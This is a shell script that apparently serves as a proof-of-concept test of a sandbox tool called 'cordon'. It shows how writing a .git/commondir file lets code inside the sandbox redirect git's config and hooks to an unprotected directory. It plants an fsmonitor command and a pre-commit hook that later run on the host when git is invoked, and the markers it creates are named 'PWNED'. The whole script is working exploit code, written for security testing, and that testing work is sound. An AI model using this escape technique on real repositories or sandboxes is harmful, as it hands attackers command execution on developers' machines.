#!/bin/sh
# F1: bypass of protected .git/config and .git/hooks via .git/commondir.
# git reads config and hooks from $GIT_DIR/commondir's target; neither the
# file nor the target directory is protected.
set -e
C=${CORDON:-/work/wt/attack/build/cordon}
T=$(mktemp -d /tmp/atk-commondir.XXXXXX); chmod 755 "$T"
cd "$T"; git init -q ws; cd ws
git -c user.email=a@b -c user.name=a commit -q --allow-empty -m init
cat > .payload.sh <<'P'
set -e
cd "$1/.git"
mkdir -p c/objects c/refs/heads c/hooks
cp -r objects/. c/objects/; cp refs/heads/* c/refs/heads/
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch %s/PWNED; false"\n' "$1" > c/config
printf '#!/bin/sh\ntouch %s/PWNED_HOOK\n' "$1" > c/hooks/pre-commit; chmod 755 c/hooks/pre-commit
echo c > commondir
P
"$C" run --rw "$T/ws" --cwd "$T/ws" --report "$T/report.json" -- sh "$T/ws/.payload.sh" "$T/ws"
rm .payload.sh
echo "cordon containment: $(python3 -c 'import json,sys;print(json.load(open(sys.argv[1]))["containment"])' "$T/report.json" 2>/dev/null)"
git status >/dev/null 2>&1 || true
git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x 2>/dev/null || true
ls "$T"/ws/PWNED* && echo "VULNERABLE: host git ran run-controlled commands" || echo held
